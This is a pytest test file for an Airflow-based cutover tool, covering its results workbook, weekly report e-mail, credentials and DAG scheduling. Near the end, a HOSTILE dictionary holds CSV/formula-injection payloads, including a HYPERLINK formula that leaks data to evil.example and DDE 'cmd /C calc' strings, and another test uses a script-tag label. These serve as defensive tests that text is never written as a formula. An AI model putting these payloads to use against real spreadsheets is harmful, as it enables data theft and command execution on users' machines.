"""The results workbook and the weekly report e-mail, from the JSON the plugin serves (no Airflow needed).

The files are written with openpyxl and opened again with openpyxl: sheets, values, formats, the
chart. The REST client against a real Airflow is in ``test_e2e_results.py``.
"""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import base_sheets, write_config, write_xlsx
from run_samples import DEFECTS, RUN, TRANSFERS, recap, step
from transition.i18n import use_language
from transition.results.api_client import Credentials
from transition.results.data import phase_results, run_results_from_json, split_run
from transition.results.workbook import results_bytes, write_results

TRANSITION = shutil.which("transition", path=str(Path(sys.executable).parent))


@pytest.fixture
def results():
    return run_results_from_json(recap(), RUN, DEFECTS, TRANSFERS)


@pytest.fixture
def comparison(results):
    earlier = recap("DR0", "resa_dr0", "manual__0", day="2026-11-14")
    for s in earlier["steps"]:  # DR0 was finished, slower in AC
        s["state"] = "Terminated"
        if s["planned_start"]:
            s["actual_start"], s["actual_end"] = (
                s["planned_start"],
                s["planned_end"].replace("11:", "13:"),
            )
    return sorted(
        [phase_results(results), phase_results(run_results_from_json(earlier))],
        key=lambda c: c.first_planned_start,
    )


def test_data_from_the_plugins_json(results):
    assert (results.plan, results.dry_run, results.run_state) == ("resa", "DR1", "running")
    assert results.run_start == dt.datetime(
        2027, 1, 16, 8, 0, tzinfo=results.now.tzinfo
    )  # in the plan's zone
    a, b, c, d = results.steps
    assert a.actual_duration == dt.timedelta(
        hours=1, minutes=30
    ) and a.planned_duration == dt.timedelta(hours=1)
    assert b.actual_duration is None and [t.to_user for t in b.transfers] == ["frank"]
    assert [x.id for x in b.open_defects] == [7] and b.defects[0].description == "12 messages"
    assert d.planned_duration is None
    assert results.phases == ["AC", "CO", "HO"]
    assert [s.id for s in results.in_state("Overdue", "Late")] == ["B", "C"]
    assert results.name_of("frank") == "Frank Claes" and results.name_of("zed") == "zed"
    assert results.name_of("automation") == "the automation"  # who ran an automated step
    with use_language("fr"):
        assert results.name_of("automation") == "l'automatisation"


def test_phase_results_span_first_start_to_last_end(results):
    phases = {p.phase: p for p in phase_results(results).phases}
    assert phases["AC"].planned == dt.timedelta(hours=3)  # 08:00 -> 11:00
    assert phases["AC"].actual == dt.timedelta(
        hours=3, minutes=55
    )  # 08:05 -> now, 12:00 (B started, open)
    assert (phases["AC"].closed, phases["AC"].steps, phases["AC"].finished) == (1, 2, False)
    assert phases["CO"].actual is None and phases["HO"].planned is None


def test_the_results_workbook(tmp_path, results, comparison):
    path = write_results(tmp_path / "out" / "results.xlsx", results, comparison)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Steps", "Defects", "Comparison", "Run"]

    steps = book["Steps"]
    header = [c.value for c in steps[1]]
    assert header[:4] == ["ID", "Label", "Phase", "State"]
    rows = {r[0]: dict(zip(header, r)) for r in steps.iter_rows(min_row=2, values_only=True)}
    assert list(rows) == ["A", "B", "C", "D"]
    a, b = rows["A"], rows["B"]
    assert a["Actual start"] == dt.datetime(2027, 1, 16, 8, 5) and a["Actual end"] == dt.datetime(
        2027, 1, 16, 9, 35
    )
    assert a["Planned start"] == dt.datetime(2027, 1, 16, 8, 0)
    assert a["Actual duration"] == dt.timedelta(hours=1, minutes=30)
    assert a["Planned duration"] == dt.timedelta(hours=1)
    assert (a["Started by"], a["Closed by"], a["Comment"], a["State"]) == (
        "alice",
        "carol",
        "done <ok>",
        "Terminated",
    )
    assert (b["State"], b["Started by"], b["Closed by"], b["Actual end"]) == (
        "Late",
        "frank",
        None,
        None,
    )
    assert b["Transfers"] == "bob → frank: On leave"
    assert b["Defects"] == "#7 major open: Queue not empty" and b["Open defects"] == 1
    assert rows["D"]["Planned start"] is None and rows["C"]["State"] == "Overdue"
    state_cell = steps.cell(row=2, column=header.index("State") + 1)
    assert state_cell.fill.fgColor.rgb.endswith("A9D18E")  # Terminated: green, as on the recap page
    assert (
        steps.cell(row=2, column=header.index("Actual start") + 1).number_format
        == "yyyy-mm-dd hh:mm"
    )
    assert (
        steps.freeze_panes == "B2" and steps.auto_filter.ref == "A1:X5"
    )  # 24 columns (Automation)

    defects = list(book["Defects"].iter_rows(values_only=True))
    assert defects[0][:5] == ("ID", "Step", "Title", "Severity", "Status")
    assert defects[1][:8] == (
        7,
        "B",
        "Queue not empty",
        "major",
        "open",
        "12 messages",
        "frank",
        dt.datetime(2027, 1, 16, 9, 50),
    )

    sheet = book["Comparison"]
    table = [list(r) for r in sheet.iter_rows(min_row=3, max_row=6, values_only=True)]
    assert table[0][:7] == [
        "Phase",
        "DR0 planned (h)",
        "DR0 actual (h)",
        "DR1 planned (h)",
        "DR1 actual (h)",
        "DR0 steps closed",
        "DR1 steps closed",
    ]
    assert table[1][:7] == ["AC", 3, 5, 3, pytest.approx(3 + 55 / 60), "2/2", "1/2"]
    assert sheet["E4"].number_format == "0.00"
    assert table[2][:7] == ["CO", 0.5, 2.5, 0.5, None, "1/1", "0/1"]
    assert table[3][:7] == ["HO", None, None, None, None, "1/1", "0/1"]
    assert "planned vs actual" in sheet["A1"].value
    assert sheet["A8"].value == "Runs compared (the latest run of each dry run)"
    runs = list(sheet.iter_rows(min_row=9, max_row=11, values_only=True))
    assert runs[0][:4] == ("Dry run", "DAG", "Run", "State") and runs[2][:4] == (
        "DR1",
        "resa_dr1",
        "manual__1",
        "running",
    )

    run = {r[0]: r[1] for r in book["Run"].iter_rows(values_only=True)}
    assert run["Forecast end"] == dt.datetime(2027, 1, 16, 13, 30) and run["Forecast late"] == "yes"
    assert (
        run["Times are in"] == "Europe/Brussels"
        and run["Steps Late"] == 1
        and run["Open defects"] == 1
    )


def test_the_comparison_chart(tmp_path, results, comparison):
    """openpyxl drops charts when it reads a file, so the chart is checked in the file's XML."""
    import zipfile

    path = write_results(tmp_path / "results.xlsx", results, comparison)
    with zipfile.ZipFile(path) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 1
        xml = archive.read(charts[0]).decode()
        drawing_rels = archive.read("xl/worksheets/_rels/sheet3.xml.rels").decode()
    import xml.etree.ElementTree as ET

    ns = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart"}
    bar = ET.fromstring(xml).find("c:chart/c:plotArea/c:barChart", ns)
    assert (
        bar.find("c:barDir", ns).get("val") == "col"
        and bar.find("c:grouping", ns).get("val") == "clustered"
    )
    series = bar.findall("c:ser", ns)  # DR0 planned, DR0 actual, DR1 planned, DR1 actual
    assert [s.find("c:tx/c:strRef/c:f", ns).text for s in series] == [
        f"'Comparison'!{c}3" for c in "BCDE"
    ]
    assert [s.find("c:val/c:numRef/c:f", ns).text for s in series] == [
        f"'Comparison'!${c}$4:${c}$6" for c in "BCDE"
    ]
    assert {s.find("c:cat/c:strRef/c:f", ns).text for s in series} == {"'Comparison'!$A$4:$A$6"}
    assert "drawing" in drawing_rels  # on the Comparison sheet (the third)


def test_without_a_comparison_and_without_steps(tmp_path):
    empty = run_results_from_json(recap(steps=[], counts_by_phase={}, counts={}))
    book = openpyxl.load_workbook(io.BytesIO(results_bytes(empty)))
    assert book.sheetnames == ["Steps", "Defects", "Run"]
    assert book["Steps"].max_row == 1 and book["Defects"].max_row == 1


def test_the_weekly_report_email(results, comparison):
    from transition.results.weekly_report import weekly_message

    message = weekly_message(
        results, comparison, ["mia@example.com", "tom@example.com"], "http://airflow:8080/"
    )
    assert message["Subject"] == "[Transition-DR1] Weekly report 16 Jan 2027"
    assert message["To"] == "mia@example.com, tom@example.com"
    text = message.get_body(("plain",)).get_content()
    assert "Steps closed:  1 of 4" in text
    assert "Forecast end:  Sat 16 Jan 2027 13:30 — after the dry run's End" in text
    assert "- C · Label of C — Carol X (carol); planned start Sat 16 Jan 2027 11:00" in text
    assert (
        "- B · Label of B — Bob X (bob), transferred to Frank Claes; started Sat 16 Jan 2027 09:40 by Frank Claes, "
        "due Sat 16 Jan 2027 11:15"
    ) in text
    assert (
        "- #7 Queue not empty (step B, major), recorded by Frank Claes on Sat 16 Jan 2027 09:50"
        in text
    )
    assert (
        "compares it with DR0 phase by phase" in text
        and "http://airflow:8080/transition/recap" in text
    )
    phase_lines = text.split("Steps per phase")[1].splitlines()
    assert phase_lines[2].split() == ["Phase", "Planned", "Overdue", "Late", "Terminated"]
    assert phase_lines[3].split() == ["AC", "0", "0", "1", "1"]
    html = message.get_body(("html",)).get_content()
    assert "Queue not empty" in html and "<li>C · Label of C" in html
    (attachment,) = list(message.iter_attachments())
    assert attachment.get_filename() == "resa-DR1-results-2027-01-16.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(attachment.get_content()))
    assert book.sheetnames == ["Steps", "Defects", "Comparison", "Run"]
    assert [r[0] for r in book["Steps"].iter_rows(min_row=2, values_only=True)] == [
        "A",
        "B",
        "C",
        "D",
    ]


def test_defects_after_the_fact_in_the_workbook_and_the_weekly_report(comparison):
    """A defect recorded on a closed step, and one on the run as a whole (no step): in the Defects
    sheet, the step's Defects cell, the weekly report's open defects; also from the recap alone."""
    from transition.results.weekly_report import weekly_message

    later = [
        {
            **DEFECTS[0],
            "id": 8,
            "task_id": "A",
            "title": "Gateway log lost",
            "after_close": True,
            "created_at": "2027-01-16T10:00:00+00:00",
        },
        {
            **DEFECTS[0],
            "id": 9,
            "task_id": None,
            "title": "Network slow all run",
            "severity": "blocking",
        },
    ]
    results = run_results_from_json(recap(), RUN, DEFECTS + later, TRANSFERS)
    assert [(d.id, d.step, d.after_close, d.on_run) for d in results.defects] == [
        (7, "B", False, False),
        (8, "A", True, False),
        (9, "", False, True),
    ]
    book = openpyxl.load_workbook(io.BytesIO(results_bytes(results, comparison)))
    sheet = list(book["Defects"].iter_rows(values_only=True))
    assert sheet[0][-1] == "After the close"
    assert [(r[0], r[1], r[2], r[-1]) for r in sheet[1:]] == [
        (7, "B", "Queue not empty", None),
        (8, "A", "Gateway log lost", "yes"),
        (9, "(the run)", "Network slow all run", None),
    ]
    header = [c.value for c in book["Steps"][1]]
    a = dict(zip(header, next(book["Steps"].iter_rows(min_row=2, values_only=True))))
    assert a["Defects"] == "#8 major open: Gateway log lost (recorded after the close)"
    text = (
        weekly_message(results, comparison, ["mia@example.com"], "http://airflow:8080/")
        .get_body(("plain",))
        .get_content()
    )
    assert "Open defects:  3" in text
    assert "- #8 Gateway log lost (step A, after its close, major)" in text
    assert "- #9 Network slow all run (on the run, blocking)" in text

    # The recap alone (no records read): the run's defects come from its run_defects.
    view = recap()
    view["run_defects"] = [
        {"id": 9, "title": "Network", "severity": "minor", "status": "open", "created_by": "mia"}
    ]
    alone = run_results_from_json(view)
    assert [(d.id, d.step, d.created_by) for d in alone.defects] == [(7, "B", ""), (9, "", "mia")]


def test_html_in_the_plan_is_escaped_in_the_email():
    from transition.results.weekly_report import weekly_message

    overdue = dict(step("X", "CO", "Overdue", "eve", None, None), label="<script>x()</script>")
    hostile = run_results_from_json(recap(steps=[overdue]))
    html = (
        weekly_message(hostile, [], ["m@example.com"], "http://a").get_body(("html",)).get_content()
    )
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_credentials_and_run_ids():
    assert split_run("resa_dr1/manual__2027-01-16T08:00:00+00:00") == (
        "resa_dr1",
        "manual__2027-01-16T08:00:00+00:00",
    )
    with pytest.raises(ValueError, match="DAG_ID/RUN_ID"):
        split_run("resa_dr1")
    env = {
        "TRANSITION_API_URL": "http://h:1/",
        "TRANSITION_API_USER": "u",
        "TRANSITION_API_PASSWORD": "p",
    }
    assert Credentials.from_options(None, None, None, env) == Credentials("http://h:1", "u", "p")
    assert Credentials.from_options("https://x", "v", "q", env) == Credentials(
        "https://x", "v", "q"
    )
    assert Credentials.from_options(None, "v", "q", {}).url == "http://127.0.0.1:8080"
    with pytest.raises(ValueError, match=r"--password or \$TRANSITION_API_PASSWORD"):
        Credentials.from_options(None, "v", None, {})
    with pytest.raises(ValueError, match="not an http"):
        Credentials.from_options("h:8080", "v", "q", {})


def test_the_connection_of_the_weekly_report():
    import json

    from airflow.sdk import Connection

    from transition.results.api_client import connection_json

    data = json.loads(connection_json("http://127.0.0.1:8081", "transition_report", "pw"))
    connection = Connection(conn_id="transition_api", **data)
    assert Credentials.from_connection(connection) == Credentials(
        "http://127.0.0.1:8081", "transition_report", "pw"
    )
    behind = json.loads(connection_json("http://127.0.0.1:8081/airflow/", "u", "p"))
    assert Credentials.from_connection(Connection(conn_id="transition_api", **behind)) == (
        Credentials("http://127.0.0.1:8081/airflow", "u", "p")
    )  # under a root path, as behind a reverse proxy
    full = Connection(
        conn_id="transition_api",
        conn_type="http",
        host="https://airflow.example.com",
        login="u",
        password="p",
    )
    assert Credentials.from_connection(full).url == "https://airflow.example.com"
    with pytest.raises(ValueError, match="needs a host, a login"):
        Credentials.from_connection(
            Connection(conn_id="transition_api", conn_type="http", host="h")
        )


def run_cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    import os

    clean = {k: v for k, v in os.environ.items() if not k.startswith("TRANSITION_API_")}
    return subprocess.run(
        [TRANSITION, *args],
        capture_output=True,
        text=True,
        timeout=60,
        env={**clean, **(env or {})},
    )


def test_report_command_errors_without_a_traceback(tmp_path):
    from airflow_server import free_port

    out = str(tmp_path / "r.xlsx")
    dead = f"http://127.0.0.1:{free_port()}"
    unreachable = run_cli(
        "report",
        "--run",
        "resa_dr1/manual__1",
        "--out",
        out,
        "--url",
        dead,
        "--user",
        "u",
        "--password",
        "p",
    )
    assert unreachable.returncode == 1
    assert unreachable.stderr.startswith(f"transition: cannot reach Airflow at {dead} (")
    assert "Traceback" not in unreachable.stderr and not Path(out).exists()
    from_env = run_cli(
        "report",
        "--run",
        "resa_dr1/manual__1",
        "--out",
        out,
        env={
            "TRANSITION_API_URL": dead,
            "TRANSITION_API_USER": "u",
            "TRANSITION_API_PASSWORD": "p",
        },
    )
    assert from_env.returncode == 1 and dead in from_env.stderr
    no_user = run_cli("report", "--run", "resa_dr1/manual__1", "--out", out, "--url", dead)
    assert no_user.returncode == 2
    assert no_user.stderr.strip() == (
        "transition: an Airflow user is needed to read the run: give --user or "
        "$TRANSITION_API_USER and --password or $TRANSITION_API_PASSWORD"
    )
    bad_run = run_cli("report", "--run", "resa_dr1", "--out", out, "--user", "u", "--password", "p")
    assert bad_run.returncode == 2 and "give the run as DAG_ID/RUN_ID" in bad_run.stderr
    assert (
        run_cli(
            "report",
            "--run",
            "a/b",
            "--out",
            str(tmp_path / "r.csv"),
            "--user",
            "u",
            "--password",
            "p",
        ).returncode
        == 2
    )
    assert run_cli("report", "--out", out).returncode == 2  # --run is required (argparse)


# -- configuration and DAG ----------------------------------------------------------------------


def test_weekly_report_setting(tmp_path):
    from transition.errors import ConfigError
    from transition.plan.config import load_config

    write_xlsx(tmp_path / "plan.xlsx", base_sheets())
    assert load_config(write_config(tmp_path / "c.yaml", "plan.xlsx")).weekly_report == "0 8 * * 1"
    assert (
        load_config(
            write_config(tmp_path / "c.yaml", "plan.xlsx", weekly_report="30 17 * * 5")
        ).weekly_report
        == "30 17 * * 5"
    )
    assert (
        load_config(
            write_config(tmp_path / "c.yaml", "plan.xlsx", weekly_report=None)
        ).weekly_report
        is None
    )
    assert (
        load_config(
            write_config(tmp_path / "c.yaml", "plan.xlsx", weekly_report="@weekly")
        ).weekly_report
        == "@weekly"
    )
    with pytest.raises(ConfigError) as error:
        load_config(write_config(tmp_path / "c.yaml", "plan.xlsx", weekly_report="every monday"))
    assert str(error.value.problems[0]).startswith(
        f"{tmp_path / 'c.yaml'}: weekly_report: 'every monday' is not a cron expression"
    )


def test_the_weekly_report_dag(tmp_path, monkeypatch):
    from transition.runner.dag_files import registered_dags

    monkeypatch.setenv("TRANSITION_CONFIG", str(tmp_path / "config.yaml"))
    monkeypatch.setenv("TRANSITION_CACHE_DIR", str(tmp_path / "cache"))
    write_xlsx(tmp_path / "plan.xlsx", base_sheets())
    write_config(
        tmp_path / "config.yaml", "plan.xlsx", cutover_managers=["dave"], weekly_report="0 7 * * 1"
    )
    dags = registered_dags()
    assert sorted(dags) == ["resa_dr1", "resa_live", "resa_weekly_report"]
    weekly = dags["resa_weekly_report"]
    assert weekly.task_ids == ["send_weekly_report"] and weekly.is_paused_upon_creation is False
    assert (
        weekly.timetable.expression == "0 7 * * 1"
        and str(weekly.timetable.timezone) == "Europe/Brussels"
    )
    assert "dave@example.com" in weekly.doc_md
    assert list(registered_dags("resa_weekly_report")) == ["resa_weekly_report"]
    assert list(registered_dags("resa_dr1")) == ["resa_dr1"]
    write_config(
        tmp_path / "config.yaml", "plan.xlsx", cutover_managers=["dave"], weekly_report=None
    )
    assert "resa_weekly_report" not in registered_dags()
    write_config(tmp_path / "config.yaml", "plan.xlsx")  # no cutover manager: nobody to tell
    assert "resa_weekly_report" not in registered_dags()


# -- people's text is text (issue 14) ------------------------------------------------------------

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Open the runbook")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C notepad'!A1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "error": "#N/A",
    "control": "bell\x07 and\x01 escape\x1b",
}


def hostile_results():
    document = recap(run_id="=1+1")
    a, b = document["steps"][:2]
    a["label"], a["comment"], a["owner_name"] = (
        HOSTILE["formula"],
        HOSTILE["plus"],
        HOSTILE["error"],
    )
    b["label"], b["team"] = HOSTILE["control"], HOSTILE["at"]
    defects = [
        {**DEFECTS[0], "title": HOSTILE["minus"], "description": "x" * 40_000 + "THE END"},
        {
            **DEFECTS[0],
            "id": 8,
            "title": HOSTILE["tab"],
            "description": HOSTILE["cr"],
            "created_by": HOSTILE["formula"],
        },
    ]
    transfers = [{**TRANSFERS[0], "message": HOSTILE["formula"]}]
    return run_results_from_json(document, {**RUN, "dag_run_id": "=1+1"}, defects, transfers)


def test_peoples_text_is_written_as_text_never_as_a_formula(tmp_path, comparison):
    path = write_results(tmp_path / "results.xlsx", hostile_results(), comparison)
    with zipfile.ZipFile(path) as archive:  # the file itself: not one formula in any sheet
        sheets = [
            archive.read(n).decode()
            for n in archive.namelist()
            if n.startswith("xl/worksheets/sheet")
        ]
    assert sheets and not any("<f>" in xml or "<f " in xml or 't="e"' in xml for xml in sheets)
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in {"f", "e"}, (
                    sheet.title,
                    cell.coordinate,
                    cell.value,
                )
    steps = book["Steps"]
    header = [c.value for c in steps[1]]
    label, comment = (
        steps.cell(2, header.index("Label") + 1),
        steps.cell(2, header.index("Comment") + 1),
    )
    assert (label.value, label.data_type, label.quotePrefix) == (HOSTILE["formula"], "s", True)
    assert (comment.value, comment.data_type, comment.quotePrefix) == (HOSTILE["plus"], "s", True)
    owner_name = steps.cell(2, header.index("Owner name") + 1)
    assert (owner_name.value, owner_name.data_type) == ("#N/A", "s")
    assert steps.cell(3, header.index("Label") + 1).value == "bell\ufffd and\ufffd escape\ufffd"
    assert steps.cell(3, header.index("Team") + 1).quotePrefix
    assert (
        steps.cell(3, header.index("Transfers") + 1).value == "bob → frank: " + HOSTILE["formula"]
    )
    defects = book["Defects"]
    assert defects["C2"].value == HOSTILE["minus"] and defects["C2"].quotePrefix
    assert defects["C3"].value == HOSTILE["tab"] and defects["C3"].quotePrefix
    assert (
        defects["F3"].value == "\n=1+1" and defects["F3"].quotePrefix
    )  # XML reads a lone CR as a line feed
    assert defects["G3"].value == HOSTILE["formula"] and defects["G3"].data_type == "s"
    run = {r[0]: r[1] for r in book["Run"].iter_rows(values_only=True)}
    assert run["Run"] == "=1+1"


def test_text_over_excels_limit_is_cut_with_a_visible_mark(tmp_path):
    path = write_results(tmp_path / "results.xlsx", hostile_results())
    description = openpyxl.load_workbook(path)["Defects"]["F2"].value
    assert len(description) <= 32_767 and description.startswith("x" * 30_000)
    assert description.endswith("… [cut: 40,007 characters]") and "THE END" not in description


def test_the_limit_counts_as_excel_does_and_the_mark_is_translated():
    from transition.i18n import use_language
    from transition.workbook.text_cells import EXCEL_CELL_LIMIT, cell_text

    assert cell_text("y" * EXCEL_CELL_LIMIT) == "y" * EXCEL_CELL_LIMIT  # at the limit: as it is
    emoji = cell_text("😀" * 20_000)  # 40,000 UTF-16 units: Excel counts each emoji twice
    assert len(emoji.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT and emoji.endswith(
        "[cut: 20,000 characters]"
    )
    with use_language("fr"):
        assert cell_text("z" * 40_000).endswith("[coupé : 40\u202f000 caractères]")


def test_the_decision_column_says_what_a_gate_decided_and_what_it_skipped():
    from transition.results.data import StepResult
    from transition.results.workbook import decision_text

    def step(**fields):
        return StepResult(
            id="G",
            label="Go/no-go",
            phase="CO",
            state="Terminated",
            owner="alice",
            owner_name="Alice",
            **fields,
        )

    went = {"decision": "go", "by": "carol", "at": "2027-01-16T10:00:00+01:00", "comment": "green"}
    assert (
        decision_text(step(kind="gate", decision={**went, "go": ["alice", "carol"]}))
        == "Go: alice, carol, 2027-01-16T10:00:00+01:00: green"
    )
    back = {**went, "decision": "no-go", "comment": "", "go": ["alice"]}
    assert (
        decision_text(step(kind="gate", decision=back)) == "No-go: carol, 2027-01-16T10:00:00+01:00"
    )
    assert decision_text(step(skipped_by="G")) == "skipped by the decision of gate G"
    assert decision_text(step()) == ""


def test_the_automation_columns_say_what_an_action_did_and_who_took_over(tmp_path):
    """An automated step and a check in the results: the measured value (a number), the verdict,
    the runs, what the action said, and who took over with which answer."""
    from transition.results.data import RunResults, StepResult
    from transition.results.workbook import automation_text, write_results

    def step(step_id, kind, automation):
        return StepResult(
            id=step_id,
            label="Count",
            phase="CO",
            state="Terminated",
            owner="bob",
            owner_name="Bob",
            kind=kind,
            closed_by="automation" if not automation.get("taken_over") else "bob",
            automation=automation,
        )

    went = {"runs": 1, "ok": True, "said": "exported LIEGE", "value": None, "expect": ""}
    accepted = {
        **went,
        "runs": 2,
        "ok": False,
        "said": "measured 1190, expected between 99.5% and 100.5% of V1",
        "value": 1190.0,
        "verdict": "failed",
        "taken_over": "Accept",
        "taken_over_by": "bob",
    }
    assert automation_text(step("X1", "auto", went)) == "went right, runs: 1: exported LIEGE"
    assert automation_text(step("V2", "check", accepted)) == (
        "failed, runs: 2: measured 1190, expected between 99.5% and 100.5% of V1; Accept by bob"
    )
    results = RunResults(
        plan="p",
        dag_id="p_dr1",
        dry_run="DR1",
        run_id="r",
        run_state="success",
        timezone="Europe/Brussels",
        now=dt.datetime(2027, 1, 16, 12, tzinfo=dt.UTC),
        steps=(step("X1", "auto", went), step("V2", "check", accepted)),
    )
    path = write_results(tmp_path / "results.xlsx", results)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    titles = [c.value for c in sheet[1]]
    value, said = titles.index("Measured value") + 1, titles.index("Automation") + 1
    assert [sheet.cell(row=r, column=value).value for r in (2, 3)] == [None, 1190]
    assert sheet.cell(row=3, column=said).value.endswith("Accept by bob")
    assert sheet.cell(row=2, column=titles.index("Closed by") + 1).value == "automation"


def test_the_weekly_report_first_runs_at_the_next_cron_time_even_just_after_one(
    tmp_path, monkeypatch
):
    """A plan whose weekly report appears on a Monday at 09:00 (the report is Mondays at 08:00)
    sends its first report next Monday, not at once for this morning (Airflow's default takes the
    past time within a tenth of the interval: 16.8 hours for a weekly cron)."""
    import pendulum
    from airflow.serialization.decoders import decode_timetable
    from airflow.serialization.encoders import encode_timetable
    from airflow.timetables import trigger
    from airflow.timetables.base import TimeRestriction

    from transition.runner.dag_files import registered_dags

    monkeypatch.setenv("TRANSITION_CONFIG", str(tmp_path / "config.yaml"))
    monkeypatch.setenv("TRANSITION_CACHE_DIR", str(tmp_path / "cache"))
    write_xlsx(tmp_path / "plan.xlsx", base_sheets())
    write_config(tmp_path / "config.yaml", "plan.xlsx", cutover_managers=["dave"])
    # as the scheduler reads it: the serialized timetable, decoded
    timetable = decode_timetable(
        encode_timetable(registered_dags()["resa_weekly_report"].timetable)
    )
    for now, first in (
        ("2026-11-30T09:00:00+01:00", "2026-12-07T08:00:00+01:00"),  # an hour after: next week
        ("2026-11-29T23:00:00+01:00", "2026-11-30T08:00:00+01:00"),  # the night before: tomorrow
    ):
        monkeypatch.setattr(trigger, "utcnow", lambda now=now: pendulum.parse(now).in_tz("UTC"))
        info = timetable.next_dagrun_info(
            last_automated_data_interval=None,
            restriction=TimeRestriction(earliest=None, latest=None, catchup=False),
        )
        assert info is not None and info.run_after == pendulum.parse(first), (now, info)


PLAN_OF_RECORD = {  # the run view's plan_of_record (transition.runs.views.PlanOfRecordView)
    "workbook": "plan.xlsx",
    "workbook_sha256": "a" * 64,
    "config": "config.yaml",
    "config_sha256": "b" * 64,
    "format": 2,
    "dag_version_id": "0195f0e2-version",
    "recorded_at": "2027-01-16T08:00:03+01:00",
    "files": {
        "workbook": {"name": "plan.xlsx", "size": 9, "sha256": "a" * 64, "kept": True, "why": None},
        "config": {"name": "config.yaml", "size": 3, "sha256": "b" * 64, "kept": True, "why": None},
    },
    "changes": {
        "changed": True,
        "compared": True,
        "added": ["X"],
        "removed": ["D"],
        "durations": [{"step": "A", "before_minutes": 60.0, "after_minutes": 120.0}],
        "since": "2027-01-16T10:02:00+01:00",
        "since_from": "dag_version",
        "since_version": 7,
        "while_running": True,
    },
}


def test_the_run_sheet_says_the_plan_of_record_and_what_changed(tmp_path):
    """The Run sheet: the workbook's and configuration's SHA-256, the format, the DAG version,
    when it was recorded, whether the files were kept, and when and what changed."""
    results = run_results_from_json(recap(plan_of_record=PLAN_OF_RECORD), RUN)
    book = openpyxl.load_workbook(io.BytesIO(results_bytes(results)))
    run = {r[0]: r[1] for r in book["Run"].iter_rows(values_only=True)}
    assert (run["Workbook"], run["Workbook SHA-256"]) == ("plan.xlsx", "a" * 64)
    assert (run["Configuration"], run["Configuration SHA-256"]) == ("config.yaml", "b" * 64)
    assert (run["Plan format"], run["Airflow DAG version"]) == (2, "0195f0e2-version")
    assert run["Plan recorded"] == dt.datetime(2027, 1, 16, 8, 0, 3)  # the plan's local time
    assert run["Workbook and configuration kept"] == "yes"
    assert run["Plan changed"] == (
        "The plan changed while the run ran (from DAG version 7, 2027-01-16 10:02): "
        "steps added: X · steps removed: D · durations changed: A 60 min → 120 min"
    )
    big = {**PLAN_OF_RECORD["files"]["workbook"], "kept": False, "why": "too-big"}
    same = {
        **PLAN_OF_RECORD,
        "files": {**PLAN_OF_RECORD["files"], "workbook": big},
        "changes": {"changed": False},
    }
    with use_language("fr"):
        results = run_results_from_json(recap(plan_of_record=same), RUN)
        book = openpyxl.load_workbook(io.BytesIO(results_bytes(results)))
    run = {r[0]: r[1] for r in book["Exécution"].iter_rows(values_only=True)}
    assert run["Plan modifié"] == "non" and run["SHA-256 du classeur"] == "a" * 64
    assert run["Classeur et configuration conservés"] == (
        "plan.xlsx non conservé : plus de 20 Mo une fois compressé"
    )
    older = run_results_from_json(recap(), RUN)  # a run before the plan of record, or its plugin
    run = {r[0]: r[1] for r in results_workbook_run(older)}
    assert run["Plan of record"] == "not recorded" and "Workbook" not in run


def results_workbook_run(results) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(results_bytes(results)))
    return list(book["Run"].iter_rows(values_only=True))
